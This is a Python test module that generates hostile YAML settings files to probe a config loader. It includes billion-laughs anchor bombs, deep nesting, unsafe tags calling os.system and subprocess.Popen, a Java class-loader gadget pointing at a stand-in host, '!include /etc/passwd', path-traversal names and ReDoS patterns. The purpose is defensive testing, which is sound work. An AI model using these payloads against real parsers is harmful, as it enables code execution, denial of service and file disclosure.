"""Settings files: YAML that grows, goes in rings, asks for objects, or says what nobody meant."""
# ruff: noqa: E501 (what one file holds stands on one line)

from __future__ import annotations

from collections.abc import Callable, Iterator

from tests.hostile.one_file import Hostile, at
from tests.hostile.words import WORDS
from tests.tiny import COHORT, FILES

PLACES = {
    "study": "config/study.yaml",
    "plan": "config/plan.yaml",
    "instrument": "config/instruments/tiny.yaml",
    "codebook": "config/codebook.yaml",
    "framework": "config/frameworks/charter.yaml",
    "release": "config/release.yaml",
    "cohort": f"{COHORT}/cohort.yaml",
}
LAUGHS = "a0: &a0 [ha, ha, ha, ha, ha, ha, ha, ha, ha, ha]\n" + "".join(
    f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]\n" for n in range(1, 12)
)
MERGED = "a0: &a0 {x: 1}\n" + "".join(
    f"a{n}: &a{n} {{<<: [{', '.join([f'*a{n - 1}'] * 10)}], y{n}: 1}}\n" for n in range(1, 8)
)
OBJECTS = {
    "system": "!!python/object/apply:os.system ['touch ran']",
    "popen": "!!python/object/new:subprocess.Popen [['touch', 'ran']]",
    "name": "!!python/name:os.system",
    "module": "!!python/module:os.system",
    "tuple": "!!python/tuple [a, b]",
    "ruby": "!ruby/object:Gem::Requirement {}",
    "java": "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ['http://hostile.invalid']]]]",
    "own": "!include /etc/passwd",
    "local": "!<tag:hostile.invalid,2026:x> y",
    "binary": "!!binary '~~~'",
    "set": "!!set {a, b}",
    "ordered": "!!omap [a: 1, b: 2]",
    "float": "!!float words",
    "integer": "!!int words",
    "boolean": "!!bool words",
    "time": "!!timestamp words",
    "nothing": "!!null words",
    "mapping": "!!map [a]",
    "sequence": "!!seq {a: b}",
    "text": "!!str [a]",
}
SHAPES = {
    "laughs": LAUGHS,
    "laughs_used": LAUGHS
    + "programme: *a11\nthemes: *a11\nitems: *a11\ntitle: *a11\nlabel: *a11\n",
    "merged": MERGED,
    "ring": "a: &a\n  b: *a\n",
    "ring_of_list": "a: &a [*a, *a]\n",
    "ring_of_all": "&a\n? *a\n: *a\n",
    "ring_merged": "a: &a\n  <<: *a\n",
    "anchor_unknown": "a: *nobody\n",
    "anchors_of_one_name": "a: &x 1\nb: &x 2\nc: *x\n",
    "deep_lists": "[" * 5_000 + "]" * 5_000,
    "deep_lists_open": "[" * 20_000,
    "deep_maps": "{a: " * 5_000 + "1" + "}" * 5_000,
    "deep_blocks": "\n".join(" " * n + "a:" for n in range(2_000)),
    "deep_dashes": "- " * 5_000 + "a",
    "keys_twice": "title: a\ntitle: b\nprogramme: a\nprogramme: b\nlabel: a\nlabel: b\n",
    "keys_of_lists": "? [a, b]\n: c\n? {d: e}\n: f\n",
    "keys_of_nothing": "~: a\n'': b\n? \n: c\n",
    "keys_of_numbers": "1: a\n1.5: b\n2026-01-01: c\ntrue: d\n.nan: e\n",
    "keys_of_magic": "__proto__: {a: b}\n__class__: x\nmodel_config: {extra: allow}\nmodel_fields: []\n",
    "documents": "a: 1\n---\nb: 2\n...\n---\nc: 3\n",
    "directive": "%YAML 9.9\n---\na: 1\n",
    "directive_tag": "%TAG ! tag:hostile.invalid,2026:\n---\na: !x y\n",
    "tabs": "a:\n\tb: 1\n",
    "indents": "a: 1\n  b: 2\n c: 3\n",
    "colons": "a: b: c: d\n",
    "quotes_open": 'a: "b\n',
    "block_open": "a: |9\n  x\n",
    "text_alone": "just some words",
    "list_alone": "- a\n- b\n",
    "number_alone": "42",
    "nothing": "",
    "null": "null",
    "comment": "# nothing\n",
    "mark": "\ufeffa: 1\n",
    "zero": "a: \x00\n",
    "escape": 'a: "\\x00\\ud800\\U0011ffff\\e[2J"\n',
    "line_separators": "a: b\u2028c: d\u2029e: f\x85g: h\n",
    "json": '{"a": 1, "a": 2, "b": [NaN, Infinity]}',
    "html": "<!doctype html><script>alert(1)</script>",
    "toml": "[a]\nb = 1\n",
    "key_long": "a" * 50_000 + ": 1\n",
    "text_long": f"title: {'word ' * 50_000}\nprogramme: {'word ' * 50_000}\n",
    "keys_many": "".join(f"k{n}: {n}\n" for n in range(5_000)),
}
NUMBERS = (
    *(
        "1e999",
        "-1",
        "0",
        "1.5",
        ".inf",
        "-.inf",
        ".nan",
        "9" * 5_000,
        "0x" + "f" * 400,
        "0x" + "f" * 4_000,
        "1_0",
    ),
    *("true", "no", "~", "''", "[]", "{}", "[[]]", "12:30:45", "2026-13-45", "0001-01-01"),
    *("9999-12-31", "99999-01-01", "2026-02-30T99:99:99Z", "0o777777777777777", "1e5", "CHECK"),
)
VALUES: dict[str, tuple[str, Callable[[str], str]]] = {
    "study_date": ("study", lambda v: FILES["study"][1].replace("2026-10-01", v)),
    "study_seed": ("study", lambda v: f"{FILES['study'][1]}seed: {v}\n"),
    "study_group": ("study", lambda v: f"{FILES['study'][1]}minimum_group: {v}\n"),
    "plan_change": ("plan", lambda v: FILES["plan"][1].replace("0.2", v)),
    "plan_date": ("plan", lambda v: FILES["plan"][1].replace("2026-01-15", v)),
    "instrument_to": (
        "instrument",
        lambda v: FILES["instrument"][1].replace(
            "[Disagree, Neither, Agree]", f"{{from: 1, to: {v}}}"
        ),
    ),
    "instrument_answers": (
        "instrument",
        lambda v: FILES["instrument"][1].replace("[Disagree, Neither, Agree]", f"[{v}, {v}, {v}]"),
    ),
    "cohort_range": ("cohort", lambda v: f"answer_ranges: {{tiny: [0, {v}]}}\n"),
    "cohort_due": ("cohort", lambda v: f"waves: {{post: {{due: {v}}}}}\n"),
}
FILES_NAMED = ("../../../../etc/passwd", "/etc/passwd", "pre.csv\\0", "..", ".", "", "~root", "*")


def files() -> Iterator[Hostile]:
    """Every shape and every object in every settings file; numbers and words where they belong."""
    for kind, path in PLACES.items():
        for name, text in SHAPES.items():
            yield at(path, f"{kind}_{name}", text)
        for name, tag in OBJECTS.items():
            yield at(path, f"{kind}_tag_{name}", f"title: {tag}\nprogramme: {tag}\nlabel: {tag}\n")
    for name, (kind, made) in VALUES.items():
        for place, value in enumerate(NUMBERS):
            yield at(PLACES[kind], f"{name}_{place}", made(value))
    yield from of_words()
    yield from of_names()
    yield from of_bytes()


def quoted(word: str) -> str:
    """A text as YAML, whatever it is."""
    return '"' + "".join(f"\\U{ord(c):08x}" for c in word) + '"'


def of_words() -> Iterator[Hostile]:
    """Every hostile word as title, question, label, code and theory."""
    for name, word in WORDS.items():
        if len(word) > 2_000:
            continue
        said = quoted(word)
        study = (
            FILES["study"][1]
            .replace("Tiny programme", "X")
            .replace("programme: X", f"programme: {said}")
        )
        study = (
            study.replace("What was learned?", said.replace("{", "("))
            + f"theory_of_change: {said}\ncautions: [{said}]\n"
        )
        yield at(PLACES["study"], f"study_word_{name}", study)
        codebook = f"themes:\n  t: {{title: {said}, definition: {said}, question: learning, codes: {{{said}: {said}}}}}\n"
        yield at(PLACES["codebook"], f"codebook_word_{name}", codebook)
        yield at(
            PLACES["instrument"],
            f"instrument_word_{name}",
            FILES["instrument"][1]
            .replace("I speak up.", said)
            .replace("Tiny self-assessment", said),
        )
        yield at(PLACES["cohort"], f"cohort_word_{name}", f"label: {said}\ndelivery: {said}\n")


def of_names() -> Iterator[Hostile]:
    """Names of files, folders and keys that lead elsewhere."""
    for place, name in enumerate(FILES_NAMED):
        said = quoted(name)
        yield at(
            PLACES["cohort"],
            f"cohort_file_{place}",
            f"files: {{{said}: pre}}\nread_as: {{{said}: plain}}\n",
        )
        study = FILES["study"][1] + f"cohort_values: {{{said}: [x]}}\nattributes: [{said}]\n"
        yield at(PLACES["study"], f"study_cohort_{place}", study)
    patterns = ("(a+)+$", "[", "\\", ".*", "(?P<x>", "\\1")
    for place, pattern in enumerate(patterns):
        said = quoted(pattern)
        study = FILES["study"][1].replace(
            "{label: at the end}", f"{{label: x, words: [{said}], column_prefix: {said}}}"
        )
        yield at(PLACES["study"], f"study_pattern_{place}", study)
        text = FILES["instrument"][1].replace("I speak up.", f"{{text: {said}, aliases: [{said}]}}")
        yield at(PLACES["instrument"], f"instrument_pattern_{place}", text)


def of_bytes() -> Iterator[Hostile]:
    """Settings in other encodings, or that are no text."""
    for kind in ("study", "cohort"):
        text = FILES[kind][1].replace("Tiny", "T\u00efny").replace("Spring", "Fr\u00fchling")
        for name in ("utf-16", "cp1252", "utf-32", "utf-8-sig", "cp037"):
            yield at(PLACES[kind], f"{kind}_as_{name}", text.encode(name))
        yield at(PLACES[kind], f"{kind}_zeros", bytes(5_000))
        yield at(PLACES[kind], f"{kind}_all_bytes", bytes(range(256)) * 9)
        yield at(PLACES[kind], f"{kind}_archive", b"PK\x03\x04" + bytes(100))
        yield at(PLACES[kind], f"{kind}_cut_letter", text.encode() + b"\xf0\x9f")
